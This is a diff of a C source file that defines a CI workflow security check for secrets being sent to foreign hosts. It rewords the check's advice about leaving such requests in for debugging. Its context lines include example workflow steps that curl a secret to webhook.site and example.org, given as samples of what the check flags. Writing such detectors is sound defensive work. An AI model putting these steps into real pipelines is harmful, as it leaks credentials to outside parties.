@@ -92,7 +92,7 @@ extern const Check secret_exfiltration = {
     .why = "Whoever owns the other end, or listens on the way, has the secret. Stolen tokens leave runners like this.",
     .reproduce = "Read the script: the host is none of the service that the secret is for.",
     .fix = "Delete the request, and change the secret. A request that is meant goes over HTTPS to the service itself.",
-    .avoid = "Do not leave it for debugging.",
+    .avoid = "Do not leave it in for debugging: print whether the secret is set, and nothing of it.",
     .references = {"https://attack.mitre.org/techniques/T1567/"},
     .bad = {"- run: curl -d \"t=$T\" https://webhook.site/abc\n  env: {T: '${{ secrets.T }}'}\n",
             "- run: |\n    curl -H \"X: ${{ secrets.T }}\" http://example.org/\n",
